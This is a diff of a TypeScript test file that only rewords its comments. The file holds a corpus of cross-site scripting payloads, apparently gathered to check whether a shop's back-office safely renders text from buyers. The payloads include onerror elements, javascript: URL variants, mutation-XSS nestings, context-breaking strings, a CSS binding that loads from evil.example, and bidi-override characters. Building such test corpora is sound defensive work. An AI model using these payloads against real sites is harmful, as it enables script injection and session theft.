@@ -1,7 +1,7 @@
-/** What runs where a text is taken for more than a text; the frame's page counts its calls. */
+/** Runs if a page treats a text as code. The page of the frame counts the calls. */
 const run = "attack()";
 
-/** Elements that run something by themselves, each with the event that does it. */
+/** Elements that run code without an action of the user, each with its event. */
 const eventElements = [
   "img src=x onerror",
   "img src onerror",
@@ -61,7 +61,7 @@ const eventElements = [
   "xss id=x tabindex=1 onfocus",
 ];
 
-/** Schemes and their disguises, for wherever a text becomes an address. */
+/** Schemes and their disguises, for places where a text becomes a URL. */
 const addresses = [
   `javascript:${run}`,
   `JavaScript:${run}`,
@@ -123,7 +123,7 @@ const addresses = [
   "tel:*#06#",
 ];
 
-/** Ends of what a text may stand in: an attribute, an element whose content is no HTML, a script's string. */
+/** Texts that end their context: an attribute, an element whose content is not HTML, a string in a script. */
 const endings = [
   `"`,
   `'`,
@@ -192,7 +192,7 @@ const scripts = [
   `<xml onreadystatechange=${run}>`,
 ];
 
-/** Read twice by a sloppy page, or by HTML's own repair of what is wrong. */
+/** Texts that become code when they are decoded twice or when HTML repairs broken markup. */
 const mutations = [
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
@@ -228,7 +228,7 @@ const mutations = [
   `<img """><script>${run}</script>">`,
 ];
 
-/** For those who put texts into programs, templates, styles and queries. */
+/** Texts for widgets that insert text into programs, templates, styles and queries. */
 const code = [
   `'-${run}-'`,
   `"-${run}-"`,
@@ -264,7 +264,7 @@ const code = [
   `-moz-binding:url(//evil.example/x.xml#x)`,
 ];
 
-/** Texts that break a layout or a reader rather than run. */
+/** Texts that do not run, but break a layout or a parser. */
 const characters = [
   "\u202e)(kcatta:tpircsavaj",
   `\u2066${run}\u2069`,
@@ -293,7 +293,7 @@ const characters = [
   `"${"'\"`".repeat(500)}<img src=x onerror=${run}>`,
 ];
 
-/** Texts as buyers send them who want to run something in the back-office: all different. */
+/** Texts of buyers who want to run code in the back-office, all different. */
 export const hostileTexts: readonly string[] = [
   ...new Set([
     ...scripts,
